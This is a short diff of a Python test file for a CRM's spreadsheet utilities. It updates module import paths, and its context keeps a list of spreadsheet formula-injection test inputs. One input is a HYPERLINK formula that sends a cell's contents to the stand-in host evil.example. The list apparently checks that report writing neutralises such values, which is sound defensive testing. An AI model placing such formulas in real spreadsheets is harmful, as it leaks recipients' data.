@@ -1,4 +1,4 @@
-"""leads.spreadsheets: reading uploads, suggesting column mappings, writing reports safely. No database."""
+"""crm.core.spreadsheets: reading uploads, suggesting column mappings, writing reports safely. No database."""
 
 import codecs
 import csv
@@ -10,14 +10,14 @@ import openpyxl
 import pytest
 from django.utils import timezone
 
-from leads.spreadsheets import (
-    DEFAULT_LEAD_FIELDS,
+from crm.core.spreadsheets import (
     SpreadsheetError,
     read_table,
     suggest_mapping,
     write_csv,
     write_xlsx,
 )
+from leads.imports.forms import DEFAULT_LEAD_FIELDS
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2", "@SUM(A1:A2)", "\tx=1", "\r=1"]
 
